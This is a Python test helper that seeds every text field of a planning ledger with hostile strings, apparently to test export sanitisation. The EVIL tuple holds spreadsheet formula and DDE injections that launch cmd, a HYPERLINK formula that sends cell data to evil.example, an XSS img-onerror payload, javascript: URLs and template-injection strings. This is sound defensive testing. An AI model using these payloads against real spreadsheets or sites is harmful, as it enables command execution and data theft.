"""A ledger with something hostile in every text field of every kind of entry.

The fields are taken from the structs themselves: one that is added is tried without a word here.
"""

import re
import types
import typing
from collections.abc import Iterator
from datetime import date
from decimal import Decimal
from typing import Any, Union

import msgspec

from hakaru.ledger import entries
from hakaru.ledger.entries import ENTRY_TYPES, Acceptance, AnyEntry, Fact, Note, Override, Share
from hakaru.ledger.ledger import Ledger, ledger_of
from hakaru.ledger.measure import read_quantity
from hakaru.ledger.quantity import Part
from hakaru.ledger.text import dumps, loads
from hakaru.source import Place
from report import making

EVIL = (
    "=cmd|' /C calc'!A0",
    '=DDE("cmd","/C calc","x")',
    '=HYPERLINK("http://evil.example/?"&A1,"cmd")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+cmd",
    "\r=1+cmd",
    "\n=1+cmd",
    " =1+cmd",
    "\u3000=1+cmd",
    "＝cmd（1）",
    "＋cmd（1）",
    "－cmd（1）",
    "＠cmd（1）",
    "<script>cmd()</script>",
    '"><img src=http://evil.example/cmd onerror=cmd()>',
    "javascript:cmd()",
    "{{ cmd }}#eval(cmd)",
    "[cmd](javascript:cmd)",
)
"""What spreadsheets, offices, browsers and templates have been made to run."""

IN_PAPERS = (EVIL[0], EVIL[2], *EVIL[-5:])
"""Those that something else than a spreadsheet would run."""

# What names another entry, or is one of a few words: a hostile one is no ledger at all.
KEPT = frozenset(
    {"id", "plan", "parent", "section", "project", "indicator", "subject", "relisted_in",
     "replaces", "rulebook", "kind", "source", "fingerprint", "code"}
)  # fmt: skip
PREFIX = making.PLAN


def base_entries() -> list[AnyEntry]:
    """Return the small plan with an entry of every kind and a value of every sort."""
    of = making.ledger()
    parts = (Part(label="国語", text="国語：6地区", value=None, unit="地区"),)
    quantity = msgspec.structs.replace(read_quantity("約3,400名"), parts=parts, note="注")
    more: list[AnyEntry] = [
        Fact(
            id=f"{PREFIX}/fact/1", source=None, plan=PREFIX, subject=PREFIX, label="登録者数",
            quantity=quantity, as_of=None,
        ),
        Note(id=f"{PREFIX}/note/1", source=None, subject=f"{PREFIX}/01", text="注記"),
        Acceptance(
            id=f"{PREFIX}/accept/1", source=None, plan=PREFIX, code="H101", fingerprint="0" * 12,
            reason="確認済み", by="事務局", at=date(2026, 1, 1),
        ),
        Override(
            id=f"{PREFIX}/override/1", source=None, indicator=of.indicators[0].id,
            fiscal_year=of.actuals[0].fiscal_year, symbol="◎", reason="災害のため", by="事務局",
            at=date(2026, 1, 1),
        ),
    ]  # fmt: skip
    return [*_entries(of), *more]


def _entries(of: Ledger) -> Iterator[AnyEntry]:
    """Yield the entries of a ledger, each with a place, a baseline and parts where it may."""
    share = Share(member="浜田町", value=Decimal(2), unit="件")
    for name in of.__struct_fields__:
        for entry in getattr(of, name):
            if not isinstance(entry, ENTRY_TYPES):
                continue
            changes: dict[str, Any] = {"source": Place("一覧.xlsx", sheet="表", line=1, cell="A1")}
            if isinstance(entry, entries.Indicator):
                start = read_quantity("12件")
                changes["baseline"] = entries.Baseline(
                    quantity=start, fiscal_year=2020, source=None
                )
            if isinstance(entry, entries.Actual):
                changes["breakdown"] = (share,)
            yield msgspec.structs.replace(entry, **changes)


def text_fields() -> set[str]:
    """Return the name of every field in which an entry can hold a text of its own."""
    return {name for kind in ENTRY_TYPES for name in _texts_of(kind)}


def _texts_of(kind: type) -> Iterator[str]:
    """Yield the text fields of a struct and of the structs in it."""
    hints = typing.get_type_hints(kind)
    for field in msgspec.structs.fields(kind):
        if field.name in KEPT:
            continue
        for inner in _leaves(hints[field.name]):
            if inner is str:
                yield f"{kind.__name__}.{field.name}"
            elif isinstance(inner, type) and issubclass(inner, msgspec.Struct):
                yield from _texts_of(inner)


def _leaves(hint: Any) -> Iterator[Any]:  # noqa: ANN401 - any type
    """Yield the types that a type is made of: of tuple[str, ...] str."""
    if typing.get_origin(hint) in (Union, types.UnionType, tuple):
        for inner in typing.get_args(hint):
            yield from _leaves(inner)
    else:
        yield hint


def hostile(evil: str) -> tuple[Ledger, set[str]]:
    """Return the plan with `evil` before every text and id, and the fields it stands in."""
    fields, changed = text_fields(), set[str]()

    def spoilt(value: Any, where: str = "") -> Any:  # noqa: ANN401 - of any field
        """Return an entry, or what one of its fields holds, with every text in it spoilt."""
        if type(value) is str and where in fields:
            changed.add(where)
            return f"{evil}{value}"
        if isinstance(value, tuple):
            return tuple(spoilt(one, where) for one in value)
        if not isinstance(value, msgspec.Struct) or isinstance(value, Place):
            return value
        name = type(value).__name__
        held = {f: spoilt(getattr(value, f), f"{name}.{f}") for f in value.__struct_fields__}
        return msgspec.structs.replace(value, **held)

    made = ledger_of([spoilt(entry) for entry in base_entries()])
    quoted = msgspec.json.encode(f"{evil}{PREFIX}").decode()[1:-1]
    named = re.sub(f'"{PREFIX}(?=["/])', lambda _: f'"{quoted}', dumps(made))
    return loads(named), changed
